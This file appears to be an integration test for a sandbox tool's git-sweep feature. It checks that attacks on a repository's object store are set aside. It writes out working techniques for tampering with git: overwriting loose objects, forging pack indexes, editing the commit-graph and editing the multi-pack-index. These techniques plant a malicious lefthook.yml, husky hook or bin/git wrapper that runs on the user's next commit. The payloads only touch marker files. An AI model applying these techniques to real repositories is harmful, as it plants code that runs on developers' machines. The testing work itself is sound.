#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# What git restores later, through the object store (broker/run/
# git-later-objects.c, git-object-check.c; red team 48's object-rewritten
# hole): git names an object by its content's hash but reads it without
# checking, and a run may write .git/objects. The command leaves every
# ref, the index's ids and HEAD as they were, and instead makes an object
# id of the user's read as its own content: a loose object file written
# over in place, a commit object rewritten to name its tree, a new pack
# whose index names the user's blob at its content, a commit-graph that
# gives HEAD's commit its tree, a multi-pack-index that points the user's
# blob at its object. The user's routine `git reset --hard` then writes
# the command's lefthook.yml, and the next `git commit` runs it. Each
# attack runs with [sandbox] git_sweep = no first (the positive control:
# the mark appears), then as shipped (no mark; what the run wrote set
# aside and named in the result). Then the everyday: a run that commits,
# and one that runs git gc (new packs, a commit-graph), reports nothing.
# Its scratch folder lies outside /tmp: the sandbox's /tmp is its own.
export TMPDIR=/var/tmp
. "$SLUICE_SRCDIR/tests/lib.sh"
. "$SLUICE_SRCDIR/tests/integration/run-lib.sh"
sandbox_subject="what git restores later through the object store"
. "$SLUICE_SRCDIR/tests/integration/sandbox-lib.sh"
printf '[sandbox]\ngit_sweep = no\n' >"$TEST_TMP/sweep-off.ini"

git_bin=$(command -v git)
[ "${git_bin%/git}" = /usr/bin ] || skip_rest "$sandbox_subject" "git is not /usr/bin/git here"
command -v python3 >/dev/null || skip_rest "$sandbox_subject" "no python3 here (the attacks write git's files with it)"
tools=${SLUICE_HOOK_MANAGERS_DIR:-$SLUICE_SRCDIR/third_party/hook-managers}/node_modules
lefthook=$tools/.bin/lefthook
[ -x "$lefthook" ] || lefthook=$(command -v lefthook || true)
[ -x "$lefthook" ] || skip_rest "$sandbox_subject" "lefthook is not installed (scripts/setup.sh installs it with npm)"
export LEFTHOOK_BIN=$lefthook

# the same, every object in one pack (as a clone has them), made an hour
# ago (git reads the newest pack first)
packed_repo() {
  lefthook_repo "$1" && git -C "$1" gc -q 2>/dev/null && touch -d '-1 hour' "$1"/.git/objects/pack/*
}
husky_bin=$tools/husky/bin.js

# the user, after the run: git reset --hard, then a commit (lefthook's
# pre-commit runs)
commit_outside() {
  (cd "$1" && echo change >>README && git add README && git commit -q -m outside) >/dev/null 2>&1 </dev/null
}
reset_then_commit() { git -C "$1" reset -q --hard >/dev/null 2>&1; commit_outside "$1"; }
# or git checkout . (from the index)
checkout_then_commit() { git -C "$1" checkout -q -- . >/dev/null 2>&1; commit_outside "$1"; }

# The attacks' scripts, run in the sandbox from the repository's top.
# evil NAME: a blob of an evil lefthook.yml touching the mark NAME; its id
cat >"$TEST_TMP/lib.sh" <<EOF
evil() { printf 'pre-commit:\\n  commands:\\n    evil:\\n      run: touch $marks/%s\\n' "\$1" | git hash-object -w --stdin; }
loose() { echo ".git/objects/\$(echo \$1 | cut -c1-2)/\$(echo \$1 | cut -c3-)"; }
# the file at path \$1 written over with the file \$2, in place (git's are 0444)
overwrite() { python3 -c 'import os,sys; d=open(sys.argv[2],"rb").read(); os.chmod(sys.argv[1],0o644); open(sys.argv[1],"wb").write(d); os.chmod(sys.argv[1],0o444)' "\$1" "\$2"; }
# lefthook.yml's index entry without its file's stat, so git reset --hard writes it
unstat() { git update-index --cacheinfo 100644,\$(git rev-parse HEAD:lefthook.yml),lefthook.yml; }
EOF
# 1. the loose object of HEAD's lefthook.yml written over in place
cat >"$TEST_TMP/loose-blob.sh" <<'EOF'
. "$1"; b=$(git rev-parse HEAD:lefthook.yml); e=$(evil "$2")
overwrite "$(loose $b)" "$(loose $e)" && unstat
EOF
# 2. the loose object of HEAD's .husky tree written over with a tree
# whose pre-commit is the command's (git checks a commit's hash when it
# reads one by name, not a tree's), the index's record of that tree
# dropped (git reset --hard skips a folder whose tree it holds)
cat >"$TEST_TMP/loose-tree.sh" <<EOF
h=\$(printf 'touch $marks/%s\\n' "\$2" | git hash-object -w --stdin)
t=\$(git rev-parse HEAD:.husky)
n=\$({ git ls-tree HEAD:.husky | grep -v '	pre-commit\$'; printf '100644 blob %s\\tpre-commit\\n' \$h; } | git mktree)
. "\$1"; overwrite "\$(loose \$t)" "\$(loose \$n)" &&
  git update-index --cacheinfo 100644,\$(git rev-parse :.husky/pre-commit),.husky/pre-commit
EOF
# 2b. red team 48's: the tree of bin/ (on the user's PATH, direnv's
# PATH_add bin) written over with one that adds an executable git, then
# `git read-tree HEAD`: the index holds bin/git, and so does HEAD as any
# git reads it
cat >"$TEST_TMP/loose-path.sh" <<EOF
. "\$1"; G=/usr/bin/git  # the other attack's bin/ is on this PATH too
b=\$(printf '#!/bin/sh\\ntouch $marks/%s\\nexec /usr/bin/git "\$@"\\n' "\$2" | \$G hash-object -w --stdin)
e=\$( (\$G ls-tree HEAD:bin; printf "100755 blob %s\\tgit\\n" \$b) | \$G mktree); o=\$(\$G rev-parse HEAD:bin)
overwrite "\$(loose \$o)" "\$(loose \$e)" && \$G read-tree HEAD
EOF
# 3. a new pack whose index names HEAD's lefthook.yml blob at the
# command's content (git reads the newest pack first)
cat >"$TEST_TMP/pack.sh" <<'EOF'
. "$1"; b=$(git rev-parse HEAD:lefthook.yml); e=$(evil "$2")
p=$(echo $e | git pack-objects -q .git/objects/pack/tmp) && rm -f "$(loose $e)"
python3 - .git/objects/pack/tmp-$p.idx $b <<'P'
import hashlib, os, struct, sys
path, b = sys.argv[1], bytes.fromhex(sys.argv[2])
d = bytearray(open(path, 'rb').read())
assert struct.unpack('>I', d[1028:1032])[0] == 1  # one object
for i in range(256):
    d[8 + 4 * i:12 + 4 * i] = struct.pack('>I', 1 if i >= b[0] else 0)
d[1032:1052] = b
d[-20:] = hashlib.sha1(bytes(d[:-20])).digest()
os.chmod(path, 0o644); open(path, 'wb').write(d)
P
mv .git/objects/pack/tmp-$p.pack .git/objects/pack/pack-$p.pack
mv .git/objects/pack/tmp-$p.idx .git/objects/pack/pack-$p.idx && unstat
EOF
# 4. a commit-graph that gives HEAD's commit the command's tree
cat >"$TEST_TMP/graph.sh" <<'EOF'
. "$1"; e=$(evil "$2"); t=$(git rev-parse HEAD^{tree})
n=$({ git ls-tree HEAD | grep -v '	lefthook.yml$'; printf '100644 blob %s\tlefthook.yml\n' $e; } | git mktree)
git commit-graph write --reachable 2>/dev/null
python3 - .git/objects/info/commit-graph $t $n <<'P'
import os, sys
path, t, n = sys.argv[1], bytes.fromhex(sys.argv[2]), bytes.fromhex(sys.argv[3])
d = open(path, 'rb').read()
assert d.count(t) == 1
os.chmod(path, 0o644); open(path, 'wb').write(d.replace(t, n))
P
unstat
EOF
# 5. a multi-pack-index over the user's pack and one of the command's,
# whose entry for HEAD's lefthook.yml blob points at the command's
cat >"$TEST_TMP/midx.sh" <<'EOF'
. "$1"; b=$(git rev-parse HEAD:lefthook.yml); e=$(evil "$2")
echo $e | git pack-objects -q .git/objects/pack/pack >/dev/null && rm -f "$(loose $e)"
git multi-pack-index write 2>/dev/null
python3 - .git/objects/pack/multi-pack-index $b $e <<'P'
import os, struct, sys
path, b, e = sys.argv[1], bytes.fromhex(sys.argv[2]), bytes.fromhex(sys.argv[3])
d = bytearray(open(path, 'rb').read())
chunks, n = {}, d[6]
for i in range(d[6] + 1):
    cid, off = struct.unpack('>4sQ', d[12 + 12 * i:24 + 12 * i])
    chunks[cid] = off
oidl, ooff = chunks[b'OIDL'], chunks[b'OOFF']
count = struct.unpack('>I', d[chunks[b'OIDF'] + 1020:chunks[b'OIDF'] + 1024])[0]
ids = [bytes(d[oidl + 20 * i:oidl + 20 * i + 20]) for i in range(count)]
ib, ie = ids.index(b), ids.index(e)
d[ooff + 8 * ib:ooff + 8 * ib + 8] = d[ooff + 8 * ie:ooff + 8 * ie + 8]
os.chmod(path, 0o644); open(path, 'wb').write(d)
P
unstat
EOF

# items: the gitSweep items' "what", one a line
items() { json_get "$out" '"\n".join(i["what"] for i in ((d.get("gitSweep") or {}).get("items") or []))' 2>/dev/null; }
sweep_error() { json_get "$out" '(d.get("gitSweep") or {}).get("error") or ""' 2>/dev/null; }

# attack NAME SETUP TRIGGER: the script NAME.sh runs in a fresh
# repository made by SETUP, then TRIGGER DIR, what the user does next.
# With git_sweep = no the mark must appear; as shipped, not, and
# lefthook.yml must be the user's.
attack() {
  local name=$1 setup=$2 trigger=$3
  rm -f "$marks/$name"
  dir=$TEST_TMP/control-$name
  "$setup" "$dir"
  run "$SLUICE" run -C "$dir" --config "$TEST_TMP/sweep-off.ini" -- "sh $TEST_TMP/$name.sh $TEST_TMP/lib.sh $name"
  "$trigger" "$dir"
  if [ ! -e "$marks/$name" ]; then
    not_ok "$name: the attack works with git_sweep = no (positive control)" "$out" "$err" \
      "$(git -C "$dir" status --short 2>&1)"
    return 1
  fi
  ok "$name: the attack works with git_sweep = no (positive control)"
  rm -f "$marks/$name"
  dir=$TEST_TMP/boxed-$name
  "$setup" "$dir"
  run "$SLUICE" run -C "$dir" --format json -- "sh $TEST_TMP/$name.sh $TEST_TMP/lib.sh $name"
  local result=$out
  "$trigger" "$dir"
  out=$result
  [ ! -e "$marks/$name" ] && ! grep -q evil "$dir/lefthook.yml" 2>/dev/null
  report $? "$name: stopped in the default sandbox" "$out" "$err" "$(git -C "$dir" status --short 2>&1)"
}

attack loose-blob lefthook_repo reset_then_commit
items | grep -q 'loose object whose content is not the object its name says.*written again from lefthook.yml' &&
  git -C "$dir" fsck --connectivity-only >/dev/null 2>&1 && grep -q fine "$dir/lefthook.yml"
report $? "loose-blob: the object set aside, written again from the work tree's file; the repository whole" \
  "$out" "$(items)" "$(git -C "$dir" fsck --connectivity-only 2>&1)"
# out of the object store, where git would warn of it ("bad sha1 file",
# "garbage found") on every gc, prune and count-objects after
no_garbage() {
  ! git -C "$dir" count-objects -v 2>&1 | grep -q sluice-blocked && [ -z "$(git -C "$dir" gc -q 2>&1)" ] &&
    ls "$dir/.git/sluice-blocked/" | grep -q "$1"
}
no_garbage '^[0-9a-f]\{40\}\.sluice-blocked$'
report $? "loose-blob: the object moved to .git/sluice-blocked/, so git gc and count-objects do not warn of it" \
  "$(git -C "$dir" count-objects -v 2>&1; git -C "$dir" gc 2>&1)" "$(ls -R "$dir/.git/sluice-blocked" 2>&1)"

if [ -e "$husky_bin" ] && command -v node >/dev/null; then
  attack loose-tree husky_repo reset_then_commit
  items | grep -q 'loose object whose content is not the object its name says' && ! grep -q touch "$dir/.husky/pre-commit"
  report $? "loose-tree: the rewritten tree object named, .husky/pre-commit the user's" "$out" "$(items)"
else
  skip "a rewritten tree of husky's" "husky is not installed (scripts/setup.sh installs it with npm) or node is missing"
fi

bin_repo() {
  new_repo "$1" && mkdir "$1/bin" && printf '#!/bin/sh\necho formatted\n' >"$1/bin/fmt" &&
    chmod +x "$1/bin/fmt" && git -C "$1" add bin && git -C "$1" commit -qm 'bin/fmt'
}
# the user's git reset --hard, then git status with bin/ first on the PATH
reset_then_status() { git -C "$1" reset -q --hard >/dev/null 2>&1; (cd "$1" && PATH="$1/bin:$PATH" git status) >/dev/null 2>&1; }
# (each run with its own bin/ on the PATH, as direnv gives it)
dir=$TEST_TMP/control-loose-path
bin_repo "$dir"
PATH="$dir/bin:$PATH" run "$SLUICE" run -C "$dir" --config "$TEST_TMP/sweep-off.ini" -- \
  "sh $TEST_TMP/loose-path.sh $TEST_TMP/lib.sh loose-path"
reset_then_status "$dir"
[ -e "$marks/loose-path" ]
report $? "loose-path: the attack works with git_sweep = no (positive control)" "$out" "$err"
rm -f "$marks/loose-path"
dir=$TEST_TMP/boxed-loose-path
bin_repo "$dir"
PATH="$dir/bin:$PATH" run "$SLUICE" run -C "$dir" --format json -- "sh $TEST_TMP/loose-path.sh $TEST_TMP/lib.sh loose-path"
reset_then_status "$dir"
[ ! -e "$marks/loose-path" ] && [ -z "$(git -C "$dir" ls-files bin/git)" ] && items | grep -q 'the index entry removed'
report $? "loose-path: stopped; bin/git out of the index (HEAD's tree lacks the object the command wrote over)" \
  "$out" "$(items)"

attack pack packed_repo checkout_then_commit
items | grep -q 'a pack whose objects are not what its index names' &&
  [ -z "$(ls "$dir/.git/objects/pack/"*.idx | xargs -n1 basename | grep -v "^$(basename "$(ls -tr "$dir/.git/objects/pack/"*.idx | head -1)")$")" ]
report $? "pack: the command's pack set aside (its index and pack), the user's kept" "$out" "$(items)" \
  "$(ls "$dir/.git/objects/pack")"
no_garbage '^pack-[0-9a-f]*\.pack\.sluice-blocked$' && ls "$dir/.git/sluice-blocked/" | grep -q '\.idx\.sluice-blocked$'
report $? "pack: its index and pack moved to .git/sluice-blocked/, so git gc and count-objects do not warn of them" \
  "$(git -C "$dir" count-objects -v 2>&1)" "$(ls "$dir/.git/sluice-blocked" 2>&1)"

# A commit-graph: git 2.39 reads a commit it is given by name from the
# object itself (reset, checkout, switch, stash and rebase tried: none
# wrote the graph's tree); git log and the walks of history read the
# graph. So no positive control here: the check that it is set aside.
dir=$TEST_TMP/graph
lefthook_repo "$dir"
run "$SLUICE" run -C "$dir" --format json -- "sh $TEST_TMP/graph.sh $TEST_TMP/lib.sh graph"
items | grep -q 'commit-graph that does not match the commits' && [ ! -e "$dir/.git/objects/info/commit-graph" ] &&
  [ "$(git -C "$dir" log -1 --format=%T)" = "$(git -C "$dir" rev-parse 'HEAD^{tree}')" ]
report $? "graph: a commit-graph giving HEAD another tree set aside; git log reads HEAD's own" "$out" "$(items)"

attack midx packed_repo reset_then_commit
items | grep -q 'multi-pack-index that does not match the packs'
report $? "midx: the multi-pack-index set aside" "$out" "$(items)"

# --- the everyday: new objects, packs and a commit-graph of git's own
dir=$TEST_TMP/everyday
lefthook_repo "$dir"
run "$SLUICE" run -C "$dir" --format json -- 'echo two >>README && git commit -qam two --no-verify && git gc -q && git commit-graph write --reachable && echo three >>README && git commit -qam three --no-verify'
[ -z "$(items)" ] && [ -z "$(sweep_error)" ] && [ "$(git -C "$dir" rev-list --count HEAD)" = 4 ] &&
  [ -e "$dir/.git/objects/info/commit-graph" ] && git -C "$dir" fsck >/dev/null 2>&1
report $? "everyday: commits, git gc and a commit-graph in a run report nothing, and stay" \
  "$out" "$(items)" "$(sweep_error)"

